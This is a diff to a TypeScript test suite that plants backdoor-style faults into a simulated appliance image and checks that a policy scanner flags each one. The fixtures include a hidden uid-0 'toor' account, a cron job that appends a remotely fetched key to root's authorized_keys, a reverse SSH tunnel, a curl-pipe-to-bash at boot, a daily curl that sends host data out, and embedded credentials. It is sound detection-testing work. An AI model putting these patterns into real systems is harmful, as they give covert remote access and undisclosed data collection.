@@ -21,7 +21,7 @@ type Planted = string | {readonly text?: string; readonly link?: string; readonl
 /** A fault, the policies that it breaks (the first is the one that it must be found under), and the rules that may speak of it. */
 type Fault = {readonly policies: readonly PolicyId[]; readonly files: (textOf: (path: string) => string) => Readonly<Record<string, Planted>>};
 
-const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2gVh5eHq0Wm5x0m3h2Xo1bqk4iZ4yqk0x7m3zjv6Qa build@vendor.example';
+const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2gVh5eHq0Wm5x0m3h2Xo1bqk4iZ4yqk0x7m3zjv6Qa build@larkspur-labs.io';
 const unit = (command: string) =>
 	`[Unit]\nDescription=Larkspur\nAfter=network-online.target\n\n[Service]\nExecStart=${command}\n\n[Install]\nWantedBy=multi-user.target\n`;
 /** A unit that starts at boot. */
@@ -70,7 +70,7 @@ const faults: Readonly<Record<string, Fault>> = {
 		policies: ['access.no-seller-access', 'access.no-authorized-credentials'],
 		files: (textOf) => ({
 			'etc/passwd': `${textOf('etc/passwd')}toor:x:0:0::/root:/bin/bash\n`,
-			'etc/shadow': `${textOf('etc/shadow')}toor:*:20000:0:99999:7:::\n`,
+			'etc/shadow': `${textOf('etc/shadow')}toor:$6$qD8tPk2vYc1b$Zk2xvJm0y0uA7yq2Vb9Zl0m9C5b0Yt6aQ3r8Wn1eXw5uKj4hGf7dSa2pLo9iUy6tRe3wQ1zXcVbNm8kJhGfDs0:20000:0:99999:7:::\n`,
 		}),
 	},
 	"a key in root's authorized_keys": {
@@ -117,10 +117,10 @@ const faults: Readonly<Record<string, Fault>> = {
 	'a history with commands': {policies: ['security.no-embedded-credentials'], files: put({'root/.bash_history': 'cd /opt/larkspur\nmake install\n'})},
 	'a saved git log-in': {
 		policies: ['security.no-embedded-credentials'],
-		files: put({'root/.git-credentials': 'https://builder:Zk2xvJm0y0uA7yq2@git.vendor.example\n'}),
+		files: put({'root/.git-credentials': 'https://builder:Zk2xvJm0y0uA7yq2@git.larkspur-labs.io\n'}),
 	},
 	'a fixed password set at first boot': {
-		policies: ['access.no-fixed-passwords'],
+		policies: ['access.no-fixed-passwords', 'security.no-embedded-credentials'],
 		files: put(
 			started('first-boot', '/opt/larkspur/first-boot.sh', {
 				'opt/larkspur/first-boot.sh': {text: '#!/bin/sh\necho "admin:Larkspur2024" | chpasswd\n', mode: 0o755},
@@ -129,7 +129,7 @@ const faults: Readonly<Record<string, Fault>> = {
 	},
 	'a tunnel to the vendor at boot': {
 		policies: ['access.outside-access-off', 'access.no-seller-access'],
-		files: put(started('support-link', '/usr/bin/ssh -N -R 2222:localhost:22 -i /opt/larkspur/link support@gate.vendor.example')),
+		files: put(started('support-link', '/usr/bin/ssh -N -R 2222:localhost:22 -i /opt/larkspur/link support@gate.larkspur-labs.io')),
 	},
 	'a remote-desktop service of others at boot': {
 		policies: ['access.outside-access-off'],
@@ -137,13 +137,13 @@ const faults: Readonly<Record<string, Fault>> = {
 	},
 	'a key fetched from the vendor each hour': {
 		policies: ['access.no-seller-access', 'usage.self-contained', 'access.no-authorized-credentials'],
-		files: put({'etc/cron.d/keys': '0 * * * * root curl -s https://keys.vendor.example/support.pub >> /root/.ssh/authorized_keys\n'}),
+		files: put({'etc/cron.d/keys': '0 * * * * root curl -s https://keys.larkspur-labs.io/support.pub >> /root/.ssh/authorized_keys\n'}),
 	},
 	'a message to the vendor each day': {
 		policies: ['customer.no-undisclosed-collection'],
 		files: put({
 			'etc/cron.daily/usage': {
-				text: '#!/bin/sh\ncurl -s -X POST "https://usage.vendor.example/ping?host=$(hostname)&users=$(wc -l < /etc/passwd)"\n',
+				text: '#!/bin/sh\ncurl -s -X POST "https://usage.larkspur-labs.io/ping?host=$(hostname)&users=$(wc -l < /etc/passwd)"\n',
 				mode: 0o755,
 			},
 		}),
@@ -152,7 +152,7 @@ const faults: Readonly<Record<string, Fault>> = {
 		policies: ['usage.self-contained'],
 		files: put(
 			started('get', '/opt/larkspur/get.sh', {
-				'opt/larkspur/get.sh': {text: '#!/bin/bash\ncurl -fsSL https://get.vendor.example/install.sh | bash\n', mode: 0o755},
+				'opt/larkspur/get.sh': {text: '#!/bin/bash\ncurl -fsSL https://get.larkspur-labs.io/install.sh | bash\n', mode: 0o755},
 			}),
 		),
 	},
@@ -210,7 +210,10 @@ else {
 			const textOf = (path: string) => Buffer.from(system.contents.get(path) ?? new Uint8Array()).toString();
 			const outcome = await judged(planted(system, files(textOf)));
 			const found = [...new Set(outcome.findings.map(({policy}) => policy))];
-			t.true(found.some((policy) => policy === policies[0]), `found ${outcome.findings.map(({rule}) => rule).join(', ') || 'nothing'}`);
+			t.true(
+				found.some((policy) => policy === policies[0]),
+				`found ${outcome.findings.map(({rule}) => rule).join(', ') || 'nothing'}`,
+			);
 			t.deepEqual(
 				found.filter((policy) => !policies.includes(policy)),
 				[],
